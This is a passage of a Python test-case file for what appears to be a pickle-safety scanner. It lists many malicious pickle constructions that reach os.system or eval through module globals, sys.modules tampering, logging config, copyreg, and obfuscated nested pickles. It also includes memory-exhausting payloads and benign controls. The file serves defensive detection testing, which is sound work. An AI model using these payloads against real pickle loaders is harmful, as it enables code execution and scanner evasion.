    "islice_map": C(builtin("list"), it("islice", C(builtin("map"), S, ["id"]), 1)),
    "cycle_map": C(builtin("next"), it("cycle", C(builtin("map"), S, ["id"]))),
    "dropwhile": C(builtin("list"), it("dropwhile", S, ["id"])),
    "filter_next": C(builtin("next"), it("filterfalse", S, ["id"])),
    "batched": C(builtin("list"), it("pairwise", C(builtin("map"), S, ["id"]))),
    "min_key": with_named(builtin("min"), (["id"],), {"key": S}),
    "sorted_map": C(builtin("sorted"), C(builtin("map"), S, ["id"])),
    "set_union": method(C(builtin("set")), "union", C(builtin("map"), S, ["id"])),
    "dict_fromkeys": C(builtin("dict.fromkeys"), C(builtin("map"), S, ["id"])),
    "od_map": C(G("collections", "OrderedDict"), C(builtin("zip"), C(builtin("map"), S, ["id"]), [1])),
    "nsmallest": C(G("heapq", "nsmallest"), 1, ["id"], S),
    "heapify_map": C(builtin("list"), C(G("heapq", "merge"), C(builtin("map"), S, ["id"]))),
    "array_map": C(G("array", "array"), "b", C(builtin("map"), S, ["id"])),
    "statistics": C(G("statistics", "mean"), C(builtin("map"), S, ["id"])),
    "fsum": C(G("math", "fsum"), C(builtin("map"), S, ["id"])),
    "prod": C(G("math", "prod"), C(builtin("map"), S, ["id"])),
    "dist": C(G("math", "dist"), C(builtin("map"), S, ["id"]), [1]),
    "join_map": C(builtin("str.join"), "", C(builtin("map"), builtin("str"), C(builtin("map"), S, ["id"]))),
    "writelines": method(C(G("io", "StringIO")), "writelines", C(builtin("map"), S, ["id"])),
    "contains_map": op("contains", C(builtin("map"), S, ["id"]), 5),
    "countof_map": op("countOf", C(builtin("map"), S, ["id"]), 5),
    "list_iadd": op("iadd", [], C(builtin("map"), S, ["id"])),
    "listdunder": method([], "__iadd__", C(builtin("map"), S, ["id"])),
    "slice_assign": op("setitem", [], C(builtin("slice"), None), C(builtin("map"), S, ["id"])),
    "unpack_args": C(builtin("list"), C(C(PARTIAL, G("itertools", "chain")), C(builtin("map"), S, ["id"]))),
    "userlist": C(G("collections", "UserList"), C(builtin("map"), S, ["id"])),
    "chainmap_missing": item(C(G("collections", "ChainMap"), C(G("collections", "defaultdict"), C(PARTIAL, S, "id"))), "x"),
    "dd_get": method(C(G("collections", "defaultdict"), C(PARTIAL, S, "id")), "__getitem__", "x"),
    "dd_itemgetter": C(C(ITEMGETTER, "x"), C(G("collections", "defaultdict"), C(PARTIAL, S, "id"))),
    "dd_template": method(C(TEMPLATE, "$x"), "substitute", C(G("collections", "defaultdict"), C(PARTIAL, S, "id"))),
    "dd_vformat": method(C(FORMATTER), "vformat", "{x}", (), C(G("collections", "defaultdict"), C(PARTIAL, S, "id"))),
    "dd_fmtmap": method("{x}", "format_map", C(G("collections", "defaultdict"), C(PARTIAL, S, "id"))),
    "dd_translate": method("x", "translate", C(G("collections", "defaultdict"), C(PARTIAL, S, "id"))),
    "dd_setstate_factory": item(C(G("collections", "defaultdict"), C(PARTIAL, S, "id")), 3),
    "dd_append": P(item(C(G("collections", "defaultdict"), C(PARTIAL, builtin("list"))), 1), "append", C(S, "id")),
    "get_field": C(item(method(C(FORMATTER), "get_field", "0.system", (OS,), {}), 0), "id"),
    "formatter_get": C(item(C(G("string", "Formatter.get_field"), C(FORMATTER), "0.system", (OS,), {}), 0), "id"),
    "unittest": method(C(G("unittest", "FunctionTestCase"), C(PARTIAL, S, "id")), "runTest"),
    "unittest_call": method(C(G("unittest", "TestCase")), "_callTestMethod", C(PARTIAL, S, "id")),
    "cleanup": (lambda O: Do(method(O, "addCleanup", S, "id"), method(O, "doCleanups")))(C(G("unittest", "FunctionTestCase"), builtin("len"))),
    "assertraises": method(C(G("unittest", "FunctionTestCase"), builtin("len")), "assertEqual", C(S, "id"), 0),
    "future": C(S, "id"),
    "workitem": method(C(G("concurrent.futures.thread", "_WorkItem"), C(G("concurrent.futures", "Future")), S, ("id",), {}), "run"),
    "operator_methodcaller_call": C(C(METHODCALLER, "__call__", "id"), S),
    "attrgetter_call": C(method(C(ATTRGETTER, "system"), "__call__", OS), "id"),
    "type_getattribute": C(C(builtin("getattr"), G("shutil", "os"), "system"), "id"),
    "module_chain": C(G("shutil", "os.system"), "id"),
    "module_chain2": C(G("logging", "os.system"), "id"),
    "module_chain3": C(G("random", "_os.system"), "id"),
    "module_chain4": C(attribute(G("glob", "os"), "system"), "id"),
    "module_chain5": C(attribute(G("tempfile", "_os"), "system"), "id"),
    "fnmatch_os": C(attribute(attribute(C(IMPORT, "fnmatch"), "os"), "system"), "id"),
    "modules_chain": C(item(attribute(item(SYS_MODULES, "os"), "__dict__"), "system"), "id"),
    "globals_chain": C(item(attribute(G("os", "walk"), "__globals__"), "system"), "id"),
    "globals_get": C(method(attribute(G("os", "walk"), "__globals__"), "get", "system"), "id"),
    "init_globals": C(item(attribute(attribute(G("os", "_wrap_close"), "__init__"), "__globals__"), "system"), "id"),
    "dotted_globals": C(C(G("os", "_wrap_close.__init__.__globals__.__getitem__"), "system"), "id"),
    "attr_globals": C(C(G("os", "walk.__globals__.get"), "system"), "id"),
    "builtins_eval": C(item(attribute(G("os", "walk"), "__builtins__"), "eval"), "1"),
    "builtins_dict": C(item(C(builtin("vars"), C(IMPORT, "builtins")), "eval"), "1"),
    "builtins_self": C(attribute(attribute(builtin("print"), "__self__"), "eval"), "1"),
    "getattr_builtins": C(attribute(C(builtin("__import__"), "builtins"), "eval"), "1"),
    "py2_builtin": C(builtin("eval"), "1"),
    "inst_dict": C(item(attribute(B(N(G("types", "SimpleNamespace")), {"f": S}), "__dict__"), "f"), "id"),
    "vars_inst": C(item(C(builtin("vars"), B(N(G("types", "SimpleNamespace")), {"f": S})), "f"), "id"),
    "ns_attr": C(attribute(with_named(G("types", "SimpleNamespace"), (), {"f": S}), "f"), "id"),
    "exc_args": C(item(attribute(C(builtin("Exception"), S), "args"), 0), "id"),
    "stopit": C(attribute(C(builtin("StopIteration"), S), "value"), "id"),
    "slice_stop": C(attribute(C(builtin("slice"), S), "stop"), "id"),
    "partial_reduce": C(item(item(method(C(PARTIAL, S, "id"), "__reduce__"), 1), 0), "id"),
    "weakref_call": C(C(C(G("weakref", "ref"), S)), "id"),
    "weakproxy": C(C(G("weakref", "proxy"), S), "id"),
    "unittest_inst": method(I(G("unittest", "FunctionTestCase"), C(PARTIAL, S, "id")), "runTest"),
    "chain_call": C(attribute(C(attribute(C(builtin("__import__"), "importlib"), "import_module"), "os"), "system"), "id"),
    "copyreg_recon": C(B(N(PARTIAL, builtin("len")), (S, ("id",), {}, {}))),
    "reduce_call": C(S, "id"),
    "dict_values_call": C(C(builtin("next"), C(builtin("iter"), method({"a": S}, "values"))), "id"),
    "tuple_item": C(item((1, S), 1), "id"),
    "list_pop": C(method([S], "pop"), "id"),
    "set_pop": C(method(C(builtin("set"), [S]), "pop"), "id"),
    "zip_call": C(item(C(builtin("next"), C(builtin("zip"), [S], [1])), 0), "id"),
    "max_call": C(builtin("max"), C(builtin("map"), S, ["id"])),
    "next_default": C(C(builtin("next"), C(builtin("iter"), []), S), "id"),
    "getattr_default_more": C(C(builtin("getattr"), 1, "nope", S), "id"),
    "dict_get_default": C(method({}, "get", 1, S), "id"),
    "deque_pop": C(method(C(G("collections", "deque"), [S]), "popleft"), "id"),
    "or_list": C(item(op("add", [S], []), 0), "id"),
    "mul_list": C(item(op("mul", [S], 2), 1), "id"),
    "sorted_one": C(item(C(builtin("sorted"), [S]), 0), "id"),
    "max_one": C(C(builtin("max"), [S]), "id"),
    "setdefault": C(method({}, "setdefault", 1, S), "id"),
    "nested": C(item(item([[S]], 0), 0), "id"),
    "bytes_dict": C(item({b"a": S}, b"a"), "id"),
    "int_dict": C(item({1: S}, True), "id"),
    "none_key": C(item({None: S}, None), "id"),
    "list_assigned": (lambda L: Do(op("setitem", L, 0, S), C(item(L, 0), "id")))([1]),
    "list_ins": (lambda L: Do(method(L, "append", S), C(item(L, 1), "id")))([1]),
    "dict_assigned": (lambda L: Do(op("setitem", L, "a", S), C(item(L, "a"), "id")))({}),
    "filter_pick": C(C(builtin("next"), C(builtin("filter"), builtin("callable"), [1, S])), "id"),
    "map_call": C(builtin("list"), C(builtin("map"), G("operator", "call"), [S], ["id"])),
    "reduce_getitem": C(C(G("functools", "reduce"), GETITEM, ["a", "b"], {"a": {"b": S}}), "id"),
    "methodcaller_sort": C(C(C(METHODCALLER, "pop"), [S]), "id"),
    "attr_reduce": C(C(G("functools", "reduce"), GETATTR, ["system"], OS), "id"),
    "dataclass_field": C(attribute(with_named(G("dataclasses", "field"), (), {"default_factory": S}), "default_factory"), "id"),
    "userdict_item": C(item(C(G("collections", "UserDict"), {"a": S}), "a"), "id"),
    "typing_cast": C(C(G("typing", "cast"), 1, S), "id"),
    "copy_fn": C(item(C(G("copy", "deepcopy"), [S]), 0), "id"),
    "modules_getitem": C(attribute(C(builtin("dict.__getitem__"), SYS_MODULES, "os"), "system"), "id"),
    "modules_copy": C(attribute(C(GETITEM, method(SYS_MODULES, "copy"), "os"), "system"), "id"),
    "modules_items": C(attribute(method(C(builtin("dict"), C(builtin("dict.items"), SYS_MODULES)), "get", "os"), "system"), "id"),
    "module_getattribute": C(C(G("types", "ModuleType.__getattribute__"), OS, "system"), "id"),
    "entry_point": C(method(C(G("importlib.metadata", "EntryPoint"), "n", "os:system", "g"), "load"), "id"),
    "getmembers": C(item(C(builtin("dict"), C(G("inspect", "getmembers"), OS)), "system"), "id"),
    "find_class": C(method(C(G("pickle", "Unpickler"), C(G("io", "BytesIO"), b"")), "find_class", "os", "system"), "id"),
    "find_class_unbound": C(C(G("pickle", "Unpickler.find_class"), C(G("pickle", "Unpickler"), C(G("io", "BytesIO"), b"")), "os", "system"), "id"),
    "pickle_getattribute": C(item(C(G("pickle", "_getattribute"), OS, "system"), 0), "id"),
    "configurator": C(method(C(G("logging.config", "BaseConfigurator"), {}), "resolve", "os.system"), "id"),
    "logging_resolve": C(C(G("logging.config", "_resolve"), "os.system"), "id"),
    "resolve_dotted": C(C(G("xmlrpc.server", "resolve_dotted_attribute"), OS, "system"), "id"),
    "pydoc_resolve": C(item(C(G("pydoc", "resolve"), "os.system"), 0), "id"),
    "generic_alias": C(C(G("types", "GenericAlias"), S, (builtin("int"),)), "id"),
    "generic_origin": C(attribute(C(G("types", "GenericAlias"), S, (builtin("int"),)), "__origin__"), "id"),
    "typing_alias": C(C(G("typing", "_GenericAlias"), S, (builtin("int"),)), "id"),
    "add_extension": Do(C(G("copyreg", "add_extension"), "os", "system", 127), C(E(127), "id")),
    "inverted_registry": Do(P(G("copyreg", "_inverted_registry"), "setitems", 126, ("os", "system")), C(E(126), "id")),
    "extension_cache": Do(op("setitem", G("copyreg", "_extension_cache"), 125, S), C(E(125), "id")),
    "modules_put": Do(P(SYS_MODULES, "setitems", "written", OS), C(G("written", "system"), "id")),
    "modules_put_known": Do(P(SYS_MODULES, "setitems", "json", OS), C(G("json", "system"), "id")),
    "modules_update": Do(method(SYS_MODULES, "update", {"written": OS}), C(G("written", "system"), "id")),
    "modules_setitem": Do(op("setitem", SYS_MODULES, "written", OS), C(attribute(C(IMPORT, "written"), "system"), "id")),
    "modules_inst": Do(P(SYS_MODULES, "setitems", "json", OS), I(G("json", "system"), "id")),
    "pickle_in_pickle": C(G("pickle", "loads"), pickle_of(C(S, "id"))),
    "pickle_unpickler": method(C(G("pickle", "Unpickler"), C(G("io", "BytesIO"), pickle_of(C(S, "id")))), "load"),
    "pickle__loads": C(G("_pickle", "loads"), pickle_of(C(S, "id"))),
    "pickle_load": C(G("pickle", "load"), C(G("io", "BytesIO"), pickle_of(C(S, "id")))),
})

# What a pickle within gives is called, or names what is.
def within(value):
    """What loading another pickle gives."""
    return C(G("pickle", "loads"), value if isinstance(value, bytes) else pickle_of(value))


NAMES.update({
    "within_name": within("system"),
    "within_item": item(item(within(["x", ("a", "system")]), 1), 1),
    "within_dict": item(item(within({"a": {"b": "system"}}), "a"), "b"),
    "within_twice": within(within("system")),
    "within_second": after(bytes_io(pickle_of("x") + pickle_of("system")), lambda made: C(G("pickle", "load"), made), lambda made: C(G("_pickle", "load"), made)),
    "within_rest": after(bytes_io(pickle_of("x") + b"system"), lambda made: C(G("pickle", "load"), made), decoded(call("read"))),
})

CHAINS.update({
    "within_function": C(within(b"cos\nsystem\n."), "id"),
    "within_getattr": C(attribute(within(OS), "system"), "id"),
    "within_partial": C(within(C(PARTIAL, SYSTEM)), "id"),
    "within_getter": C(C(within(C(ATTRGETTER, "system")), OS), "id"),
    "within_reader": C(C(G("pickle", "load"), C(G("gzip", "open"), bytes_io(gzip.compress(b"cos\nsystem\n.", mtime=0)))), "id"),
    "within_unpickler": C(method(C(G("pickle", "Unpickler"), bytes_io(b"cposix\nsystem\n.")), "load"), "id"),
    "within_mapped": C(C(builtin("next"), C(builtin("map"), G("pickle", "loads"), [b"cos\nsystem\n."])), "id"),
    "within_method": C(within(N(G("types", "MethodType"), SYSTEM, "id"))),
})

# The arguments are objects that only the run has: what is called is known, with what is not.
CONFIG = G("logging.config", "dictConfig")
CONFIGURATOR = G("logging.config", "DictConfigurator")
CALLEES = {
    "getmembers_predicate": C(G("inspect", "getmembers"), "x", S),
    "config_handler": C(CONFIG, {"version": 1, "handlers": {"h": {"()": "os.system"}}}),
    "config_filter": C(CONFIG, {"version": 1, "filters": {"f": {"()": "ext://os.system"}}}),
    "config_format": C(CONFIG, {"version": 1, "formatters": {"f": {"class": "os.system", "format": "id"}}}),
    "config_global": C(CONFIG, {"version": 1, "formatters": {"f": {"()": S}}}),
    "config_cfg": C(CONFIG, {"version": 1, "ours": [{"a": "os.system"}],
                             "filters": {"f": {"()": "cfg://ours[0].a"}}}),
    "config_inner": C(CONFIG, {"version": 1, "filters": {"f": {"()": "logging.config.dictConfig", "config": {
        "version": 1, "filters": {"f": {"()": "os.system"}}}}}}),
    "config_whole": C(method(C(CONFIGURATOR, {"version": 1, "filters": {"f": {"()": "os.system"}}}), "configure")),
    "config_custom": C(method(C(CONFIGURATOR, {}), "configure_custom", {"()": "os.system"})),
    "config_convert": C(method(C(CONFIGURATOR, {}), "convert", "ext://os.system"), "id"),
    "config_cfg_convert": C(C(method(C(CONFIGURATOR, {"a": {"b": S}}), "cfg_convert", "a.b")), "id"),
    "ns_kw_append": P(with_named(G("types", "SimpleNamespace"), (), {"append": S}), "append", "id"),
    "type_setitem": P(C(C(builtin("type"), "X", (), {"__setitem__": C(PARTIAL, S)})), "setitems", "id", "id"),
    "type_copy": C(G("copy", "copy"), C(C(builtin("type"), "X", (), {"__copy__": C(PARTIAL, S, "id")}))),
    "type_prop": attribute(C(C(builtin("type"), "X", (), {"id": C(builtin("property"), C(C(PARTIAL, PARTIAL, S), "id"))})), "id"),
    "property_get": method(C(builtin("property"), S), "__get__", "id"),
    "property_fget": C(attribute(C(builtin("property"), S), "fget"), "id"),
    "cached_prop": C(attribute(C(G("functools", "cached_property"), S), "func"), "id"),
    "re_sub": C(G("re", "sub"), "id", S, "id"),
    "merge": C(builtin("list"), with_named(G("heapq", "merge"), (["id"], ["x"]), {"key": S})),
    "json_hook": with_named(G("json", "loads"), ("3",), {"parse_int": S}),
    "json_default": with_named(G("json", "dumps"), (C(builtin("complex"), 1, 2),), {"default": S}),
    "json_object": with_named(G("json", "loads"), ("{}",), {"object_hook": S}),
    "argparse": (lambda A: Do(with_named(attribute(A, "add_argument"), ("x",), {"type": S}), method(A, "parse_args", ["id"])))(C(G("argparse", "ArgumentParser"))),
}

# What libraries that need not be here fetch for a caller; numpy.size(a, axis) is a.shape[axis].
BUILTINS = C(builtin("vars"), C(IMPORT, "builtins"))
FETCHED = {
    "numpy_size": C(C(G("numpy", "size"), B(C(G("numpy", "poly1d"), None), {"shape": BUILTINS}), "eval"), "1"),
    "numpy_size_builtins": C(C(G("numpy", "size"), B(C(G("numpy", "poly1d"), None), {"shape": G("numpy", "__builtins__")}), "eval"), "1"),
    "numpy_real": C(C(G("numpy", "real"), B(N(G("types", "SimpleNamespace")), {"real": builtin("eval")})), "1"),
}

# No Python says what they come to, or each another thing; and nobody may call them harmless.
DOUBTFUL = {
    "layer_method_called": C(attribute(G("ultralytics.nn.modules.block", "C2f"), "forward"), 1),
    "layer_method_mapped": C(builtin("list"), C(builtin("map"), attribute(G("ultralytics.nn.modules.block", "C2f"), "forward"), [1])),
    "layer_method_kept": C(PARTIAL, attribute(G("ultralytics.nn.modules.block", "C2f"), "forward"), 1),
    "layer_method_within": attribute(attribute(G("ultralytics.nn.modules.block", "C2f"), "forward"), "foo"),
    "layer_class_within": attribute(G("ultralytics.nn.modules.block", "C2f"), "Inner"),
    "subclasses": C(item(C(builtin("object.__subclasses__")), 137), "id"),
    "subclasses_getattr": C(item(method(builtin("object"), "__subclasses__"), 137), "id"),
    "docstring_getattr": run(attribute(OS, joined([item(attribute(builtin("str"), "__doc__"), n) for n in (3, 5)]))),
    "allowed_by_a_computed_name": C(G("collections", op("add", "Ordered", "Dict"))),
    "computed_module": C(G(op("add", "collec", "tions"), "OrderedDict")),
    "function_type": C(C(G("types", "FunctionType"), C(G("marshal", "loads"), b"c"), {})),
    "code_type": C(G("types", "CodeType"), 0, 0, 0, 0, 0, 0, b"", (), (), (), "", "", 0, b""),
    "getattr_kept": [GETATTR],
    "getattr_called_and_kept": [attribute([], "append"), GETATTR],
    "getattr_of_unknown": attribute(C(G("mymodule", "C")), "run"),
    "getattr_dict": attribute(G("json", "JSONDecoder"), "__dict__"),
    "getattr_special": attribute([], "__len__"),
    "getattr_format": attribute("{0.__globals__}", "format"),
    "getattr_default": C(C(GETATTR, [], "nothing", G("mymodule", "f"))),
    "partial_of_unknown": C(PARTIAL, G("mymodule", "f")),
    "partial_of_getattr": C(PARTIAL, GETATTR, G("json", "loads")),
    "partial_kept": {"a": PARTIAL},
    "zone_of_a_file": C(G("dateutil.tz.tz", "tzfile"), "/usr/share/zoneinfo/UTC"),
    "kept_new_of_unknown": C(C(PARTIAL, attribute(G("mymodule", "C"), "__new__"), G("mymodule", "C"))),
    "factory_getattr": C(G("collections", "defaultdict"), GETATTR),
    "attrgetter_private": C(ATTRGETTER, "_os.system"),
    "attrgetter_module": C(ATTRGETTER, "os.system"),
    "attrgetter_special": C(ATTRGETTER, "a.__globals__"),
    "itemgetter_of_unknown": C(C(G("operator", "itemgetter"), "a"), C(G("mymodule", "f"))),
    "getitem_of_unknown": item(C(G("mymodule", "f")), "a"),
    "methodcaller_tofile": C(METHODCALLER, "tofile", "/tmp/x"),
    "methodcaller_replace": C(METHODCALLER, "replace", "/tmp/x"),
    "map_getattr": C(builtin("list"), C(builtin("map"), GETATTR, [G("json", "loads")], ["__globals__"])),
    "map_lazy": C(builtin("map"), C(PARTIAL, GETATTR, G("json", "loads")), ["__globals__"]),
    "reduce_getattr": C(G("functools", "reduce"), GETATTR, [G("json", "loads"), "__globals__"]),
    "method_of_getattr": C(G("types", "MethodType"), GETATTR, G("json", "loads")),
    "rebuilt_by_getattr": C(G("torch._tensor", "_rebuild_from_type_v2"), GETATTR, builtin("object"), (G("json", "loads"), "__globals__"), {}),
    "annotated_getattr": C(item(G("typing", "Annotated"), (GETATTR, "x")), G("json", "loads"), "__globals__"),
    "setstate_methodcaller": B(C(G("argparse", "Namespace")), {"__setstate__": C(METHODCALLER, "upper")}, "id"),
    "setstate_partial": B(C(G("argparse", "Namespace")), {"__setstate__": C(PARTIAL, C(METHODCALLER, "upper"))}, "id"),
    "loaded_unknown": C(G("torch.storage", "_load_from_bytes"), C(G("mymodule", "f"))),
    "loaded_called": C(C(G("torch.storage", "_load_from_bytes"), b"\x80\x02K\x01.")),
}

# What is harmless by itself, and comes to what is known and harmless: benign.
FOLLOWED = {
    "layer_method": attribute(G("ultralytics.nn.modules.block", "C2f"), "forward"),
    "layer_bound": attribute(C(G("ultralytics.nn.modules.block", "C2f")), "forward_fuse"),
    "estimator_method": attribute(G("sklearn.tree._classes", "DecisionTreeClassifier"), "fit"),
    "member": attribute(G("http", "HTTPStatus"), "OK"),
    "bound_method": attribute([1], "append"),
    "unbound_method": attribute(builtin("str"), "lower"),
    "class_method": attribute(builtin("dict"), "fromkeys"),
    "partial": C(PARTIAL, builtin("int"), "101"),
    "partial_state": B(C(PARTIAL, builtin("int")), (builtin("int"), (), {"base": 2}, None)),
    "partial_of_partial": C(PARTIAL, C(PARTIAL, builtin("pow"), 2), 3),
    "nested_factories": C(G("collections", "defaultdict"), C(PARTIAL, G("collections", "defaultdict"), builtin("list"))),
    "itemgetter": C(G("operator", "itemgetter"), 1, "a"),
    "attrgetter": C(ATTRGETTER, "score", "a.b"),
    "methodcaller": C(METHODCALLER, "split", ","),
    "map": C(builtin("map"), builtin("len"), C(builtin("iter"), ["a"])),
    "map_itemgetter": C(builtin("list"), C(builtin("map"), C(G("operator", "itemgetter"), 0), [(1,)])),
    "filter": C(builtin("filter"), None, C(builtin("iter"), [0, 1])),
    "accumulate": C(G("itertools", "accumulate"), [1, 2], G("operator", "mul")),
    "union": C(G("functools", "reduce"), G("operator", "or_"), (builtin("int"), builtin("str"))),
    "alias": item(G("typing", "Dict"), (builtin("str"), item(G("typing", "List"), builtin("int")))),
    "annotated": item(G("typing", "Annotated"), (builtin("int"), "x")),
    "zone_of_no_file": C(G("dateutil.tz.tz", "tzfile"), None, "/usr/share/zoneinfo/UTC"),
    "kept_new": C(C(PARTIAL, attribute(G("collections", "OrderedDict"), "__new__"), G("collections", "OrderedDict"))),
    "tensor_function": attribute(G("torch._C", "_VariableFunctionsClass"), "sigmoid"),
    "loaded": C(G("torch.storage", "_load_from_bytes"), b"\x80\x02K\x01."),
    "ufunc": C(G("numpy.core", "_ufunc_reconstruct"), "numpy", "add"),
    "many": [attribute(G("http", "HTTPStatus"), name) for name in ("OK", "CREATED", "ACCEPTED")],
}

# Imports of names that nobody can tell.
HIDDEN = {
    "docstring": run(G("os", joined([item(attribute(builtin("str"), "__doc__"), n) for n in (3, 5)]))),
    "set_order": run(G("os", C(builtin("next"), C(builtin("iter"), C(builtin("set"), ["system", "path"]))))),
    "module_by_chance": run(G(C(G("random", "choice"), ["os", "posix"]), "system")),
    "name_by_chance": run(G("os", C(G("random", "choice"), ["system", "path"]))),
    "module_given": run(G(C(G("brine_sample", "name")), "system")),
    "no_name_first": run(G("pandas", ".eval")),
    "no_name_between": run(G("shutil", "os..system")),
    "no_name_last": run(G("os", "system.")),
}


# ---- Pickles that only the calls of others unpack ------------------------------------------------

INNER = b"\x80\x04cos\nsystem\n(X\x06\x00\x00\x00nestedtR."
LOADS = G("pickle", "loads")
B64 = G("base64", "b64decode")
TEXT = base64.b64encode(INNER).decode()
HALF = len(TEXT) // 8 * 4


# Each loads INNER.
NESTED = {
    "plain": C(LOADS, INNER),
    "b64": C(LOADS, C(B64, TEXT)),
    "b64_zlib": C(LOADS, C(G("zlib", "decompress"), C(B64, base64.b64encode(zlib.compress(INNER))))),
    "join": C(LOADS, method(b"", "join", [INNER[:9], INNER[9:20], INNER[20:]])),
    "join_unbound": C(LOADS, C(builtin("bytes.join"), b"", (INNER[:9], INNER[9:]))),
    "join_decoded": C(LOADS, method(b"", "join", [C(B64, TEXT[:HALF]), C(B64, TEXT[HALF:])])),
    "b64_of_join": C(LOADS, C(B64, method("", "join", [TEXT[:7], TEXT[7:]]))),
    "join_encode": C(LOADS, method(method("", "join", [INNER[:9].decode("latin1"), INNER[9:].decode("latin1")]), "encode", "latin1")),
    "add": C(LOADS, C(G("operator", "add"), INNER[:9], INNER[9:])),
    "concat_decoded": C(LOADS, C(G("operator", "concat"), C(B64, TEXT[:HALF]), INNER[HALF // 4 * 3:])),
    "reduce": C(LOADS, C(G("functools", "reduce"), G("operator", "add"), [INNER[:9], INNER[9:20], INNER[20:]])),
    "slice": C(LOADS, C(G("operator", "getitem"), b"AAAA" + INNER + b"BB", C(builtin("slice"), 4, -2))),
    "slice_stepped": C(LOADS, item(INNER[::-1], C(builtin("slice"), None, None, -1))),
    "slice_text": C(LOADS, C(B64, item("====" + TEXT, C(builtin("slice"), 4, None)))),
    "replace": C(LOADS, method(INNER.replace(b"os", b"!!"), "replace", b"!!", b"os")),
    "replace_text": C(LOADS, C(B64, method(TEXT.replace("A", "*"), "replace", "*", "A"))),
    "strip": C(LOADS, method(b"  " + INNER + b" ", "strip")),
    "partition": C(LOADS, item(method(b"head:" + INNER, "partition", b":"), 2)),
    "getattr_decoder": C(LOADS, C(attribute(C(IMPORT, "base64"), "b64decode"), TEXT)),
    "computed_decoder": C(LOADS, C(attribute(C(IMPORT, C(G("operator", "add"), "base", "64")), method("", "join", ["b64", "decode"])), TEXT)),
    "getattr_loader": C(attribute(C(IMPORT, "pickle"), "loads"), C(B64, TEXT)),
    "computed_loader": C(G("pickle", C(G("operator", "add"), "lo", "ads")), C(B64, TEXT)),
    "partial": C(C(PARTIAL, LOADS, C(B64, TEXT))),
    "partial_decoder": C(LOADS, C(C(PARTIAL, B64), TEXT)),
    "map": C(builtin("list"), C(builtin("map"), LOADS, [INNER])),
    "map_decoded": C(builtin("list"), C(builtin("map"), LOADS, C(builtin("map"), B64, [TEXT]))),
    "next_map": C(builtin("next"), C(builtin("map"), LOADS, [C(B64, TEXT)])),
    "methodcaller": C(C(METHODCALLER, "loads", C(B64, TEXT)), C(IMPORT, "pickle")),
    "attrgetter": C(C(C(ATTRGETTER, "loads"), C(IMPORT, "pickle")), C(B64, TEXT)),
    "inst": I(LOADS, INNER),
    "inst_decoded": I(LOADS, C(B64, TEXT)),
    "numbers": C(LOADS, C(builtin("bytes"), list(INNER))),
    "bytearray": C(LOADS, C(builtin("bytearray"), list(INNER))),
    "chr_join": C(LOADS, method(method("", "join", C(builtin("map"), builtin("chr"), list(INNER))), "encode", "latin1")),
    "dict": C(LOADS, C(G("operator", "getitem"), {"p": C(B64, TEXT)}, "p")),
    "codec_pair": C(LOADS, item(C(G("encodings.base64_codec", "base64_decode"), TEXT.encode()), 0)),
    "reader": C(G("pickle", "load"), bytes_io(C(B64, TEXT))),
    "reader_getvalue": C(LOADS, method(bytes_io(C(B64, TEXT)), "getvalue")),
    "reader_joined": C(G("pickle", "load"), bytes_io(method(b"", "join", [INNER[:9], INNER[9:]]))),
    "reader_buffered": C(G("pickle", "load"), C(G("io", "BufferedReader"), bytes_io(C(B64, TEXT)))),
    "unpickler": method(C(G("pickle", "Unpickler"), bytes_io(C(B64, TEXT))), "load"),
    "reader_gzip": C(G("pickle", "load"), C(G("gzip", "open"), bytes_io(C(B64, base64.b64encode(gzip.compress(INNER, mtime=0)))))),
    "reader_bz2": C(G("pickle", "load"), C(G("bz2", "BZ2File"), bytes_io(C(B64, base64.b64encode(bz2.compress(INNER)))))),
    "reader_lzma": C(G("pickle", "load"), C(G("lzma", "open"), bytes_io(C(B64, base64.b64encode(lzma.compress(INNER)))))),
    "reader_gzip_kw": C(G("pickle", "load"), with_named(G("gzip", "GzipFile"), (), {"fileobj": bytes_io(C(B64, base64.b64encode(gzip.compress(INNER, mtime=0))))})),
    "reader_written": after(C(BYTES_IO), call("write", INNER[:9]), call("write", INNER[9:]), call("seek", 0), lambda made: C(G("pickle", "load"), made)),
    "reader_moved": after(bytes_io(C(B64, base64.b64encode(b"some" + INNER))), call("read", 4), lambda made: C(G("pickle", "load"), made)),
    "reader_built": C(G("pickle", "load"), B(C(BYTES_IO), (C(B64, base64.b64encode(b"some" + INNER)), 4, None))),
    "unpacker": C(LOADS, method(C(G("bz2", "BZ2Decompressor")), "decompress", C(B64, base64.b64encode(bz2.compress(INNER))))),
    "unpacker_parts": (lambda made, data: C(LOADS, op("add", method(made, "decompress", data[:20]), method(made, "decompress", data[20:]))))(
        C(G("zlib", "decompressobj")), zlib.compress(INNER)),
    "memoryview": C(LOADS, C(builtin("memoryview"), C(B64, TEXT))),
    "setstate": B(C(C(builtin("type"), "X", (), {"__setstate__": C(builtin("staticmethod"), LOADS)})), INNER),
    "latin1": C(LOADS, C(G("_codecs", "encode"), INNER.decode("latin1"), "latin1")),
    "latin1_joined": C(LOADS, method(b"", "join", [C(G("_codecs", "encode"), INNER[:9].decode("latin1"), "latin1"), INNER[9:]])),
    "twice": C(LOADS, C(B64, base64.b64encode(pickle_of(C(LOADS, C(B64, TEXT)))))),
}

# What would take all memory, or never end: suspicious. Nobody runs it here.
MUCH = 2**31 - 1
EXHAUSTING = {
    "bytes": C(builtin("bytes"), MUCH),
    "bytearray": C(builtin("bytearray"), 2**70),
    "list_count": C(builtin("list"), it("count")),
    "sum_cycle": C(builtin("sum"), it("cycle", [1])),
    "list_repeat": C(builtin("list"), it("repeat", 1)),
    "set_range": C(builtin("set"), C(builtin("range"), MUCH)),
    "range_step": C(builtin("tuple"), C(builtin("range"), MUCH, -MUCH, -4)),
    "mapped": C(builtin("list"), C(builtin("map"), builtin("str"), it("count"))),
    "zipped": C(builtin("dict"), C(builtin("zip"), it("count"), it("repeat", 1))),
    "chained": C(builtin("max"), it("chain", [1], it("islice", it("count"), MUCH))),
    "product": C(builtin("list"), it("product", C(builtin("range"), 10**5), C(builtin("range"), 10**5))),
    "orders": C(builtin("list"), it("permutations", list(range(30)))),
    "pow": C(builtin("pow"), 7, MUCH),
    "lshift": op("lshift", 1, 2**40),
    "mul": op("mul", "x", MUCH),
    "mul_list": op("mul", MUCH, [1, 2]),
    "factorial": C(G("math", "factorial"), MUCH),
    "center": method("x", "center", MUCH),
    "format": C(builtin("format"), 1, "2147483647d"),
    "percent": op("mod", "%2147483647d", 1),
    "format_method": method("{:2147483647}", "format", 1),
    "deque": C(G("collections", "deque"), it("count")),
    "deque_bounded": C(G("collections", "deque"), it("count"), 3),
    "contains": op("contains", it("count"), -1),
    "array": C(G("array", "array"), "b", C(builtin("range"), MUCH)),
